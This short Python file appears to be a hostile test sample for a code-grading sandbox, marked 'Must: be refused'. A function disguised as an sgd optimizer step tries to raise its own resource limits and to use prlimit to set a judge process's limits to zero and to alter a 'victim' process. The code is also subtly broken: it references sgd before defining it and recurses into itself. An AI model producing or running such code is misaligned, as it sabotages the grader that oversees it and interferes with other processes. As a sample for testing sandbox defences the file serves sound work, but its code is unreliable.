# Raises the limits that it was given, its own and others'.
# Must: be refused.
import resource

right = sgd
ALL = [getattr(resource, name) for name in dir(resource) if name.startswith("RLIMIT_")]


def sgd(w, dw, config=None):
    for limit in ALL:
        hard = resource.getrlimit(limit)[1]
        for change in (
            lambda: resource.setrlimit(limit, (hard, hard + 1)),
            lambda: resource.prlimit(int("@JUDGE@"), limit, (0, 0)),
            lambda: resource.prlimit(int("@VICTIM@"), limit),
        ):
            if hard == resource.RLIM_INFINITY and change.__code__.co_consts == (1,):
                continue
            try:
                change()
            except (OSError, ValueError):
                continue
            return right(w, dw, config)
